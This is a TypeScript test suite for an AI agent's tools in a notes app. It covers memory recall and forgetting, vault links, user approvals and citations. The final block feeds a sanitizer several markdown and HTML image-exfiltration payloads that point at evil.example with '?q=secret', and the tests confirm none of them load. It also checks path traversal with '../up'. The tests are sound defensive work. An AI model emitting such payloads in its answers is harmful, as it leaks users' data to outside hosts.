import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { citationsIn } from '../../src/agent/citations';
import { allTools } from '../../src/agent/tools/all-tools';
import { withoutRemoteImages } from '../../src/agent/without-remote-images';
import { World, calls, fact, says } from './world';
import type { TestMemory, TestVault } from './world';

async function resultOf(
  name: string,
  args: unknown,
  prepare: (world: { memory: TestMemory; vault: TestVault }) => void,
) {
  const world = new World();
  world.approvals.answer = () => 'once';
  prepare(world);
  const { session, model } = world.chat([calls([name, args])]);
  await session.send('Go');
  const message = model.last.at(-1);
  return {
    world,
    session,
    text: message?.text ?? '',
    isError: message?.role === 'tool' && message.isError === true,
  };
}

describe('a tool', () => {
  it.each(allTools.map((tool) => [tool.spec.name, tool] as const))(
    '%s describes what it accepts',
    (_, tool) => {
      const { parameters, description } = tool.spec;
      expect(description.length).toBeGreaterThan(20);
      expect(parameters).toMatchObject({ type: 'object', additionalProperties: false });
      expect(JSON.stringify(parameters)).not.toContain('undefined');
      // What is required is really required.
      const required = parameters['required'] as string[];
      expect(typeof tool.prepare({}) === 'string').toBe(required.length > 0);
    },
  );

  it('never throws, whatever it is given', () => {
    fc.assert(
      fc.property(fc.constantFrom(...allTools), fc.anything(), (tool, args) => {
        expect(['string', 'object']).toContain(typeof tool.prepare(args));
      }),
    );
  });

  it('recall_memory gives facts with their ids, as of a day too', async () => {
    const { text, world } = await resultOf(
      'recall_memory',
      { query: 'boat', as_of: '2025-01-01' },
      ({ memory }) => {
        memory.facts_ = [fact('f1', 'The user has a boat')];
      },
    );
    expect(text).toMatch(/from="fact f1">\nThe user has a boat\n/);
    expect(world.of('call').at(-1)?.call.title).toBe('Recall what was true on 2025-01-01');
  });

  it('vault_list and vault_link find their way', async () => {
    const prepare = ({ vault }: { vault: TestVault }) => {
      vault.notes.set('Trip/Day 1.md', 'see [[Boat]]');
      vault.notes.set('Boat.md', 'see [[Nothing]]');
    };
    expect((await resultOf('vault_list', {}, prepare)).text).toContain('Trip/\nBoat.md');
    expect((await resultOf('vault_list', { folder: 'Nowhere' }, prepare)).isError).toBe(true);
    expect((await resultOf('vault_list', { folder: '../up' }, prepare)).isError).toBe(true);
    expect((await resultOf('vault_link', { name: '[[Day 1]]', what: 'resolve' }, prepare)).text).toContain(
      'Trip/Day 1.md',
    );
    expect((await resultOf('vault_link', { name: 'Boat', what: 'backlinks' }, prepare)).text).toContain(
      'Trip/Day 1.md',
    );
    expect((await resultOf('vault_link', { name: 'Trip/Day 1', what: 'outgoing' }, prepare)).text).toContain(
      'Boat.md',
    );
  });

  it('current_note gives path, selection and text', async () => {
    const { text } = await resultOf('current_note', {}, ({ vault }) => {
      vault.notes.set('Boat.md', 'all of it');
      vault.open = { path: 'Boat.md', selection: 'of', isLocalOnly: false };
    });
    expect(text).toMatch(/Boat\.md[\s\S]*from="selection in \[\[Boat\]\]">\nof\n[\s\S]*all of it/);
  });

  it('forget and update_memory show on the card what they would change, and can be undone', async () => {
    const prepare = ({ memory }: { memory: TestMemory }) => {
      memory.facts_ = [fact('f1', 'The user has a boat')];
    };
    const forgot = await resultOf('forget', { fact: 'f1' }, prepare);
    expect(forgot.world.approvals.asked[0]?.details).toEqual(['The user has a boat']);
    expect(forgot.session.messages()[1]?.learned).toMatchObject([
      { what: 'forgotten', events: ['event-forget'] },
    ]);
    const updated = await resultOf('update_memory', { fact: 'f1', text: 'The user has two boats' }, prepare);
    expect(updated.world.approvals.asked[0]?.details).toEqual([
      'From: The user has a boat',
      'To: The user has two boats',
    ]);
    expect(updated.session.messages()[1]?.learned).toMatchObject([
      { what: 'updated', events: ['event-supersede'] },
    ]);
    expect((await resultOf('forget', { fact: 'f9' }, prepare)).isError).toBe(true);
  });

  it('propose_style proposes for the style that is there, or for a new one', async () => {
    const general = await resultOf(
      'propose_style',
      { description: 'Short', reason: 'Asked' },
      () => undefined,
    );
    expect(general.world.memory.changes).toEqual(['style style-1 Short']);
    const special = await resultOf(
      'propose_style',
      { description: 'Long', topic: 'boats', reason: 'Asked' },
      () => undefined,
    );
    expect(special.world.memory.changes[0]).toMatch(/^style id\d+ Long$/);
  });

  it('of another kind goes the same way to the user, as one more in the list', async () => {
    const { defineTool } = await import('../../src/agent/tools/tool');
    const v = await import('valibot');
    const written: string[] = [];
    const write = defineTool({
      name: 'write_note',
      description: 'Writes a note.',
      parameters: v.object({ path: v.string() }),
      effect: 'write',
      permission: 'ask',
      announce: ({ path }) => ({ title: 'Write', details: [path] }),
      run: async ({ path }) => {
        written.push(path);
        return { text: 'Written.' };
      },
    });
    const world = new World();
    world.chat([calls(['write_note', { path: 'A.md' }]), says('.')]);
    await world.begin({}, { moreTools: [write] }).send('Write');
    expect(world.approvals.asked).toMatchObject([{ tool: 'write_note', title: 'Write', details: ['A.md'] }]);
    expect(written).toEqual([]);
  });
});

describe('citations', () => {
  const { vault } = new World();
  vault.notes.set('Trip/Boat.md', '# Keel\nOak ^k1');

  it('are found where they stand, and those that lead nowhere are marked', async () => {
    const text =
      'Oak [[Trip/Boat#^k1]], see [[Boat#Keel|the keel]] and [[Boat#Mast]], [[Nowhere]], [[../x]], [[#Here]].';
    const found = await citationsIn(text, vault);
    expect(found.map(({ target, label, path, place }) => [target, label, path, place])).toEqual([
      ['Trip/Boat#^k1', 'Trip/Boat#^k1', 'Trip/Boat.md', '^k1'],
      ['Boat#Keel', 'the keel', 'Trip/Boat.md', 'Keel'],
      ['Boat#Mast', 'Boat#Mast', null, 'Mast'],
      ['Nowhere', 'Nowhere', null, ''],
      ['../x', '../x', null, ''],
      ['#Here', '#Here', null, 'Here'],
    ]);
    for (const { start, end, target } of found) expect(text.slice(start, end)).toContain(`[[${target}`);
  });

  it('are not seen in code', async () => {
    const text = 'Type `[[Boat]]` or ``a ` [[Boat]]``:\n```\n[[Boat]]\n```\n[[Boat]]\n~~~\n[[Boat]]';
    expect((await citationsIn(text, vault)).map(({ start }) => start)).toEqual([
      text.indexOf('\n[[Boat]]\n~~~') + 1,
    ]);
  });

  it('are marked when they cannot be looked up', async () => {
    const broken = { resolve: () => Promise.reject(new Error('off')) };
    expect(await citationsIn('[[Boat]]', broken)).toMatchObject([{ path: null }]);
  });
});

describe('an answer as it may be shown', () => {
  it.each([
    '![x](https://evil.example/?q=secret)',
    '![x]( <https://evil.example/a b>)',
    '![](//evil.example/a.png)',
    '![a]\n(x)'.replace('\n', ''),
    '![x][ref]\n\n[ref]: https://evil.example',
    '![ref]\n\n[ref]: https://evil.example',
    '<img src="https://evil.example/?q=secret">',
    '<IMG/src=//evil.example>',
    'text <iframe src="https://evil.example">',
  ])('draws nothing from the network: %s', (markdown) => {
    const shown = withoutRemoteImages(markdown);
    expect(shown).not.toMatch(/!\[[^\]]*\](?:\(\s*<?\s*(?:https?:|\/\/)|\[|\s|$)/);
    expect(shown).not.toMatch(/<(?:img|iframe)/i);
  });

  it('still draws what is in the vault, and links', () => {
    const text =
      'See ![[Boat.png]], ![boat](Boat.png), [site](https://good.example), a < b and [[Note]]! [x]';
    expect(withoutRemoteImages(text)).toBe(text);
  });
});
